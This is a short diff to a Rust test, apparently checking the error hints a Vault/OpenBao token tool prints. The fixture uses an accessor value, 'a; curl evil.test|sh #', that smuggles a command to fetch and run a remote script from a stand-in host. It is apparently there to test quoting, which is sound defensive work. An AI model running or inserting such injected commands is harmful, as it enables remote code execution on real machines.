@@ -67,7 +67,7 @@ fn a_name_in_the_manifest_is_one_word() {
           said       403 1 error occurred: * permission denied
           asked for  the end of accessor a; curl evil.test|sh # at http://HOST
 
-        hint: an administrator ends it now: bao token revoke -accessor 'a; curl evil.test|sh #'
+        hint: an administrator can revoke it now: vault token revoke -accessor 'a; curl evil.test|sh #'
         hint: Vault's default policy lets a token end itself: check token_no_default_policy on the role
     "#]]);
 }
